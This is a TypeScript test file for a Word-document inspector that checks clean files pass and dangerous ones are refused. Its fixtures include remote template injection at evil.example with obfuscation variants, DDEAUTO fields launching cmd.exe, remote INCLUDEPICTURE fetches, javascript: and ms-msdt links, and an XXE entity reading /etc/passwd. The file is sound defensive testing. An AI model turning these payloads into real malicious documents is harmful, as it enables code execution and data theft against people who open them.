import {
  Document,
  ExternalHyperlink,
  Packer,
  Paragraph,
  Table,
  TableCell,
  TableRow,
  TextRun,
} from 'docx';
import { expect, test } from 'vitest';
import { makeDocx, makeZip, WORD_PARTS } from '../../../../tests/support/documents/make-zip.ts';
import type { ZipPart } from '../../../../tests/support/documents/make-zip.ts';
import {
  docxOf,
  field,
  instruction,
  relatedDocx,
} from '../../../../tests/support/documents/word-fields.ts';
import { sourceOf } from '../document.ts';
import { inspectDocument } from '../inspect-document.server.ts';

const problemOf = async (content: Buffer) => {
  const found = await inspectDocument(sourceOf(content));
  return found.outcome === 'refused' ? found.problem : found.format;
};

test('a Word document passes whose main part has a number, as Word for the web writes it', async () => {
  const renamed = WORD_PARTS.map(({ name, content }) => ({
    name: name.replace('document.xml', 'document2.xml'),
    content: String(content).replace('document.xml', 'document2.xml'),
  }));
  expect(await problemOf(makeZip(renamed))).toBe('docx');
});

const TEMPLATE =
  'Type="http://x/relationships/attachedTemplate" Target="https://evil.example/t.dotm"';

test('a Word document that a library wrote passes', async () => {
  const document = new Document({
    sections: [
      {
        children: [
          new Paragraph({
            children: [
              new TextRun('Text & more'),
              new ExternalHyperlink({
                link: 'https://journal.example.org',
                children: [new TextRun('a link')],
              }),
            ],
          }),
          new Table({
            rows: [
              new TableRow({ children: [new TableCell({ children: [new Paragraph('cell')] })] }),
            ],
          }),
        ],
      },
    ],
  });
  expect(await problemOf(await Packer.toBuffer(document))).toBe('docx');
});

test.each([
  [
    'behind an attribute with a sign',
    `<Relationships><Relationship x="a>b" TargetMode="External" ${TEMPLATE}/></Relationships>`,
  ],
  [
    'under a prefix',
    `<p-q:Relationships><p-q:Relationship TargetMode="External" ${TEMPLATE}/></p-q:Relationships>`,
  ],
  [
    'in other letters',
    `<Relationships><Relationship TargetMode="EXTERNAL" ${TEMPLATE}/></Relationships>`,
  ],
  [
    'in single quotation marks',
    `<Relationships><Relationship TargetMode='External' ${TEMPLATE.replaceAll('"', "'")}/></Relationships>`,
  ],
  [
    'over several lines',
    `<Relationships><Relationship\n\tTargetMode\n=\n"External"\n${TEMPLATE}></Relationship></Relationships>`,
  ],
  [
    'behind a comment',
    `<Relationships><!-- > --><Relationship TargetMode="External" ${TEMPLATE}/></Relationships>`,
  ],
  [
    'written as numbers',
    `<Relationships><Relationship TargetMode="External" Type="http://x/attachedTemplate" Target="&#x000000068;ttps://evil.example"/></Relationships>`,
  ],
  [
    'with spaces inside',
    `<Relationships><Relationship TargetMode="External" Type="http://x/attachedTemplate" Target="ht&#9;tps://evil.example"/></Relationships>`,
  ],
])('a template elsewhere is found %s', async (_, xml) => {
  expect(await problemOf(relatedDocx(xml))).toBe('external-content');
});

test('a template elsewhere is found in UTF-16 with its mark, and without it the file is refused', async () => {
  const xml = `<Relationships><Relationship TargetMode="External" ${TEMPLATE}/></Relationships>`;
  const wide = (text: string): ZipPart => ({
    name: 'word/_rels/document.xml.rels',
    content: Buffer.from(text, 'utf16le'),
  });
  expect(await problemOf(makeDocx(wide(`\uFEFF${xml}`)))).toBe('external-content');
  expect(await problemOf(makeDocx(wide(xml)))).toBe('damaged');
});

const link = (target: string) =>
  relatedDocx(
    `<Relationships><Relationship Id="a" Type="http://x/hyperlink" TargetMode="External" Target="${target}"/></Relationships>`,
  );

test.each([
  ['https://doi.org/10.1000/1', 'docx'],
  ['mailto:author@example.org', 'docx'],
  ['file:///C:\\Users\\me\\paper.pdf', 'docx'],
  ['#section', 'docx'],
  ['\\\\server\\share\\paper.pdf', 'harmful-link'],
  ['file://server/share', 'harmful-link'],
  ['javascript:alert(1)', 'harmful-link'],
  ['JavaScript&#10;:alert(1)', 'harmful-link'],
  ['ms-msdt:/id', 'harmful-link'],
  ['search-ms:query=x', 'harmful-link'],
])('a link to %s: %s', async (target, found) => {
  expect(await problemOf(link(target))).toBe(found);
});

test.each([
  ['a calculated number', field(' = 1 + 2 ')],
  ['a page', field('PAGE')],
  [
    'a reference manager',
    field(' ADDIN ZOTERO_ITEM CSL_CITATION {"uris":["http://zotero.org/x"]}'),
  ],
  ['a link', field(' HYPERLINK "https://journal.example.org" ')],
  ['a picture of one’s own disk', field(' INCLUDEPICTURE "C:\\\\papers\\\\a.png" \\d ')],
  [
    'a linked sheet of one’s own disk',
    field(' LINK Excel.Sheet.12 "C:\\\\a.xlsx" "Sheet1!R1C1:R2C3" '),
  ],
  ['text about fields', '<w:p><w:r><w:t>DDEAUTO cmd and INCLUDETEXT</w:t></w:r></w:p>'],
])('a field passes: %s', async (_, body) => {
  expect(await problemOf(docxOf(body))).toBe('docx');
});

test.each([
  ['DDEAUTO', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
  ['DDE', field('dde excel "x"')],
  ['split over runs', field(' DD', 'EAU', 'TO cmd "/k calc"')],
  [
    'written as one element',
    '<w:fldSimple w:instr=" DDEAUTO cmd &quot;x&quot; "><w:r/></w:fldSimple>',
  ],
  ['named by another field', field(field(' QUOTE 68 68 69 '), ' cmd ')],
  [
    'a picture elsewhere',
    field(' INCLUDEPICTURE  "https://evil.example/a.png" \\* MERGEFORMATINET '),
  ],
  ['a picture on a share', field(' INCLUDEPICTURE \\\\\\\\server\\\\a.png ')],
  ['a text elsewhere', field(' INCLUDETEXT "http://evil.example/a.docx" ')],
  [
    'a picture whose place another field says',
    field(' INCLUDEPICTURE ', field(' QUOTE 104 '), '"'),
  ],
  ['inside another', field(' IF 1 = 1 ', field(' DDEAUTO cmd "x" '), ' "" ')],
  ['never ended', `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction('DDEAUTO cmd')}`],
])('a field that starts or fetches is refused: %s', async (_, body) => {
  expect(await problemOf(docxOf(body))).toBe('fetching-field');
});

test('such a field is found in every part, and a harmful link in a field too', async () => {
  const header = { name: 'word/header1.xml', content: `<w:hdr>${field('DDEAUTO cmd')}</w:hdr>` };
  expect(await problemOf(makeDocx(header))).toBe('fetching-field');
  const [types, ...rest] = WORD_PARTS;
  const declared = `<Types><Default Extension="dat" ContentType="application/x+xml"/></Types>`;
  const odd = { ...header, name: 'word/header1.dat' };
  expect(await problemOf(makeZip([{ ...types!, content: declared }, ...rest, odd]))).toBe(
    'fetching-field',
  );
  expect(await problemOf(docxOf(field(' HYPERLINK "\\\\\\\\server\\\\share" ')))).toBe(
    'harmful-link',
  );
});

test.each([
  ['a document type', '<!DOCTYPE x [<!ENTITY a "x"><!ENTITY b "&a;&a;">]><w:document/>'],
  [
    'an entity of a file',
    '<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><w:document/>',
  ],
  ['a tag that is never closed', '<w:document><w:body></w:document>'],
  ['broken letters', Buffer.from('<w:document>\xff\xfe\xfd</w:document>', 'latin1')],
  ['another encoding', '<?xml version="1.0" encoding="UTF-7"?><w:document/>'],
  ['nothing', ''],
])('a main part with %s is damaged', async (_, content) => {
  const parts = WORD_PARTS.map((part) =>
    part.name === 'word/document.xml' ? { ...part, content } : part,
  );
  expect(await problemOf(makeZip(parts))).toBe('damaged');
});
